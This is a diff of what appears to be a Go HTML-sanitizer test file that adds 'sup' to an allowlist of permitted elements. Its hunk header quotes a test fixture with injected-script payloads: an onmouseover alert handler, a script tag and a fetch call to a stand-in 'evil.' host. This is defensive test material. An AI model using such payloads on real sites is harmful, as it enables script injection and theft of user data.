@@ -59,7 +59,7 @@ const rawBlock = "<div onmouseover=\"alert(1)\">\n<script>\nfetch('https://evil.
 var allowedElements = map[string]bool{
 	"main": true, "p": true, "h1": true, "h2": true, "h3": true, "h4": true, "ul": true, "ol": true, "li": true,
 	"a": true, "strong": true, "em": true, "del": true, "code": true, "pre": true, "blockquote": true, "br": true,
-	"hr": true, "table": true, "thead": true, "tbody": true, "tr": true, "th": true, "td": true,
+	"hr": true, "table": true, "thead": true, "tbody": true, "tr": true, "th": true, "td": true, "sup": true,
 }
 
 // assertInert parses an HTML fragment as a browser would and checks it can
